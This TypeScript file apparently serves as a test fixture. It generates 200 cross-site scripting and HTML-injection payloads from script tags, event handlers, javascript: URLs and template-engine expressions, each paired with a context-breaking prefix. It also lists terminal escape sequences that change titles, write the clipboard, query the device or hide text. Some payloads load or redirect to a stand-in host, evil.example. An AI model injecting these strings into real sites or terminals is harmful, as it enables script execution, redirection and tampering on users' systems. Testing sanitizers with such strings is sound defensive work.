/** Two hundred strings that a careless page would run, frame or obey. Each says its number if it succeeds. */
const BODIES: readonly ((n: number) => string)[] = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s>`,
  (n) => `<iframe srcdoc="<script>alert(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:alert(${n})"></iframe>`,
  (n) => `<a href="javascript:alert(${n})">press</a>`,
  (n) => `<details open ontoggle=alert(${n})>`,
  (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<video src=x onerror=alert(${n})></video>`,
  (n) => `<object data="javascript:alert(${n})"></object>`,
  (n) => `<form action="javascript:alert(${n})"><button>press</button></form>`,
  (n) => `<math><mtext><style><img src=x onerror=alert(${n})></style></mtext></math>`,
  (n) => `<style>*{background:url(https://evil.example/${n})}</style>`,
  (n) => `<link rel=stylesheet href=https://evil.example/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<base href=https://evil.example/${n}/>`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload for template engines
  (n) => '${alert(N)}#{alert(N)}<%= alert(N) %>'.replaceAll('N', String(n)),
  (n) =>
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(${n})//'>`,
];

/** Ways out of wherever the text was put. */
const EXITS = ['', '">', "'>", '</script>', '</title>', '</textarea></style>', '-->', ']]>', '\u202e', '\\u003c/'];

export const PAYLOADS: readonly string[] = EXITS.flatMap((exit, row) =>
  BODIES.map((body, column) => `${exit}${body(row * BODIES.length + column)}`),
);

const ESC = '\u001b';
/** Sequences that steer a terminal: titles, links, the clipboard, device requests, window reports, 8-bit controls. */
export const SEQUENCES: readonly string[] = [
  `${ESC}]0;owned by osc 0\u0007`,
  `${ESC}]2;owned by osc 2${ESC}\\`,
  `${ESC}]8;;https://evil.example/${ESC}\\press here${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;b3duZWQ=\u0007`,
  `${ESC}P$q"p${ESC}\\`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[21t`,
  `${ESC}[8;10;10t`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[8mhidden${ESC}[0m`,
  `${ESC}c`,
  '\u009d0;owned by c1\u009c',
  '\u009b21t',
  '\u0090$q"p\u009c',
];
